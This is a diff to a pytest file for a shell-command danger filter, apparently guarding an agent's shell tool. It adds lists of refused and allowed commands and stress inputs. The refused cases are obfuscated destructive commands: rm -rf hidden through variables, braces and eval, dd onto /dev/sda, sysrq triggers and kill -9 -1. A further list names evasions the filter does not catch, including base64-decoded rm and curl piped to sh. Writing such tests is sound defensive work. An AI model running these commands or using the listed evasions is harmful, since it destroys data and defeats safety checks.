@@ -123,6 +123,48 @@ REFUSED = [
     "bomb() { bomb | bomb & }; bomb",
     "f(){ f & f & }; f",
     "sh -c ':(){ :|:& };:'",
+    # What a name, a brace or an echo in the same text stands for.
+    "X='rm -rf x'; $X",
+    "C=rm; $C -rf x",
+    "A=r; B=m; $A$B -rf x",
+    "export F='-rf'; rm $F x",
+    'F=-rf; rm "${F}" x',
+    "A='$B'; B='rm -rf x'; $A",
+    "rm $(echo -rf) x",
+    "$(echo rm) -rf x",
+    "`echo rm` -rf x",
+    "rm ${X:--rf} x",
+    "${X-rm} -rf x",
+    "rm{,} -rf x",
+    "{rm,-rf,x}",
+    "rm -r{f,} x",
+    "rm$IFS-rf${IFS}x",
+    "alias x='rm -rf'; x y",
+    "trap 'rm -rf x' EXIT",
+    "fd . -x rm -rf {}",
+    "fd . -X rm",
+    "source <(echo rm -rf x)",
+    ". <(printf 'rm -rf x')",
+    "bash <(echo 'rm -rf x')",
+    'sh -c "$(echo rm -rf x)"',
+    'eval "$(echo rm -rf x)"',
+    "echo 'rm -rf x' | tee log | sh",
+    "cat <<E | tee log | sh\nrm -rf x\nE",
+    "at now <<< 'rm -rf x'",
+    "systemd-run rm -rf x",
+    "tmux new 'rm -rf x'",
+    "pwsh -c 'Remove-Item -Recurse x'",
+    "cmd.exe /c 'rd /s x'",
+    "ls | xargs env rm",
+    "dd of=//dev/sda if=x",
+    "dd of=/../dev/./sda if=x",
+    "dcfldd of=/dev/sda if=x",
+    "cat x > /dev//sda",
+    "echo b > /proc/sysrq-trigger",
+    "echo c | tee /proc/sysrq-trigger",
+    "newfs x",
+    "kill -9 -1",
+    "killall5 -9",
 ]
 
 ALLOWED = [
@@ -171,6 +213,22 @@ ALLOWED = [
     "x=$((1 << 3)); echo $x",
     "init",
     "",
+    "X=rm; echo $X -rf x",
+    "F=-r; grep $F x .",
+    "C=grep; $C -r x",
+    "echo {rm,-rf,x}",
+    "rm {a,b}.o",
+    "echo ${X:-rm -rf}",
+    "alias ll='ls -la'; ll",
+    "trap 'rm -f lock' EXIT",
+    "fd . -x grep -r {}",
+    "source <(kubectl completion bash)",
+    "kill -1 4711",
+    "kill -9 4711",
+    "echo x > /dev//null",
+    'for f in *.o; do rm "$f"; done',
+    "X=$(date); echo $X",
+    "ls | xargs env grep rm",
 ]
 
 
@@ -181,6 +239,23 @@ def test_refuses(command: str) -> None:
 
 @pytest.mark.parametrize("command", ALLOWED)
 def test_allows(command: str) -> None:
+    assert danger_in(command) == ""
+
+
+BEYOND = [
+    "echo cm0gLXJmIHg= | base64 -d | sh",
+    "echo 'rm -rf x' > t.sh && sh t.sh",
+    "python -c \"import shutil; shutil.rmtree('x')\"",
+    "awk 'BEGIN{system(\"rm -rf x\")}'",
+    "git clean -fdx",
+    "curl -s https://example.com/x | sh",
+    "docker exec c rm -rf x",
+]
+"""What the list does not see, as docs/tools.md says: other programs' doings, scripts, what is decoded or fetched."""
+
+
+@pytest.mark.parametrize("command", BEYOND)
+def test_what_is_no_boundary_is_not_made_to_look_like_one(command: str) -> None:
     assert danger_in(command) == ""
 
 
@@ -217,6 +292,10 @@ def test_every_text_is_judged(text: str) -> None:
         "<<E " * 25_000 + "\n",
         "${" * 50_000,
         "eval " * 20_000,
+        "A=$A$A$A$A;$A;" * 6_000,
+        "echo $(echo $(echo x));$() $();" * 3_000,
+        "A='$B$B$B$B$B$B$B$B';B='$A$A$A$A$A$A$A$A';" + "$A $B;" * 9_000,
+        "{a,{b," * 15_000,
         "env 'sh -c 1' " * 7_000,
     ],
     ids=lambda text: text[:12].strip(),
